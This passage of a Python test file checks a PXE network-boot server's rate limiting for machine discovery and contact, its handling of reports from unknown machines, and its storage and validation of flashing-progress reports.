        scripts = [site.contact(mac, remote_addr=f"192.0.2.{i}") for i, mac in enumerate(macs(6))]
        plan = site.get(f"/pxe/{MAC}/plan", remote_addr="192.0.2.99")
        elsewhere = site.contact(MAC, remote_addr="198.51.100.1")
        known = site.contact(macs(1)[0], remote_addr="192.0.2.200")
        machines, events = counts(site)

    assert [("kernel" in script) for script in scripts] == [True] * 3 + [False] * 3
    assert all("sleep 30\n" in script and "(throttled)" in script for script in scripts[3:])
    assert (plan.status_code, plan.headers["retry-after"]) == (429, "30")
    assert "kernel" in elsewhere
    assert "kernel" in known
    assert (machines, events) == (4, 9)


def test_all_networks_together_discover_four_times_as_many(quick_dir: Path) -> None:
    few = Tuning(discovery_burst=2, discovery_per_minute=1)
    with serving.site(quick_dir, tuning=few) as site:
        scripts = [site.contact(mac, remote_addr=f"10.0.{i}.1") for i, mac in enumerate(macs(12))]
        machines, _ = counts(site)

    assert sum("kernel" in script for script in scripts) == machines == 8


def test_reports_of_unknown_machines_are_bounded_like_discoveries(quick_dir: Path) -> None:
    few = Tuning(discovery_burst=3, discovery_per_minute=1)
    with serving.site(quick_dir, tuning=few) as site:
        answers = [site.post(f"/pxe/{mac}/done").status_code for mac in macs(6)]

        assert answers == [404] * 3 + [429] * 3
        assert counts(site) == (0, 3)


def test_a_machine_that_asks_without_end_is_answered_and_not_written_down(quick_dir: Path) -> None:
    few = Tuning(contact_burst=4, contact_per_second=1)
    with serving.site(quick_dir, tuning=few) as site:
        site.save(boot_mode="bty-tui")
        scripts = {site.contact() for _ in range(50)}
        plans = {json.dumps(site.plan()) for _ in range(50)}
        other = site.contact("02:00:00:00:00:01")
        _, events = counts(site)

    assert (len(scripts), len(plans)) == (1, 1)
    assert "kernel" in other
    # The save, the first contacts, and the other machine's two.
    assert 1 + 4 + 2 <= events <= 1 + 4 + 2 + 2


# -- progress ---------------------------------------------------------------------------------


def progress(site: Site, **body: object) -> serving.Result:
    return site.post(f"/pxe/{MAC}/progress", json=body)


def test_progress_is_kept_as_the_last_word_without_an_event(server: Site) -> None:
    server.bind("bty-flash-once")
    server.boots()
    told = server.kinds()

    answer = progress(server, phase="write", bytes=1, total=10, rate=5)
    progress(server, phase="verify", bytes=10, total=10, error="slow\nline")

    assert (answer.status_code, answer.text) == (204, "")
    assert server.kinds() == told
    kept = server.services.machines.get(MAC).progress
    assert kept is not None
    assert (kept.phase, kept.bytes_done, kept.bytes_total, kept.rate, kept.error) == (
        "verify", 10, 10, None, "slow line",
    )  # fmt: skip


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"phase": "Write"},
        {"phase": ""},
        {"phase": "w", "bytes": -1},
        {"phase": "w", "bytes": 1.5},
        {"phase": "w", "bytes": True},
        {"phase": "w", "bytes": 2**63},
        {"phase": "w", "error": "x" * 501},
        {"phase": "w", "eta": 1},
    ],
)
def test_a_progress_report_that_breaks_a_rule_is_refused(
    server: Site, body: dict[str, object]
) -> None:
    server.contact()

    assert progress(server, **body).status_code == 422


def test_a_saved_machine_has_no_progress_of_an_older_attempt(server: Site) -> None:
    server.bind("bty-flash-once")
    server.boots()
    progress(server, phase="write", bytes=1)

    server.bind("bty-flash-once")

    assert server.services.machines.get(MAC).progress is None


def test_the_catalog_entry_that_goes_takes_the_flash_with_it(server: Site) -> None:
    server.bind("bty-flash-once")
    server.database.write(lambda tx: catalog.delete(tx, REF))

    assert commands(server.contact()) == ["sleep 1", "exit 1"]
    assert server.plan() == INTERACTIVE
